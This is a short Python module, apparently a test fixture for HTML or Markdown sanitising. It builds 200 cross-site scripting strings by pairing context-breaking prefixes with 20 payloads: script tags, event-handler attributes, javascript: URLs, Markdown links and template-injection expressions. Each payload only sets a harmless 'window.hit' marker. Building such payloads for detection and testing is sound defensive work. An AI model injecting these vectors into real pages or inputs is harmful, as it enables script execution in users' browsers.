"""What somebody might type so that a browser runs it: 200 strings, each would set `window.hit`."""

ACTS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<iframe src=javascript:parent.hit=1>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<input autofocus onfocus=window.hit=1>",
    "<math><mi><mglyph><style><img src=x onerror=window.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<b style=animation-name:x onanimationstart=window.hit=1>",
    "<img src=`x`onerror=window.hit=1>",
    '<a autofocus onfocus=window.hit=1 href="x">',
    "![x](x'onerror='window.hit=1)",
    "[x](javascript:window.hit=1)",
    "javascript:window.hit=1",
    "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
)
ENDS = ("", '">', "'>", "</title>", "</style>", "</script>", "-->", "</textarea>", "]]>", '\\";')
HOSTILE = tuple(end + act for end in ENDS for act in ACTS)


def texts(size=7):
    """All of them, so many in each text that models can read it."""
    return [" ".join(HOSTILE[n : n + size]) for n in range(0, len(HOSTILE), size)]
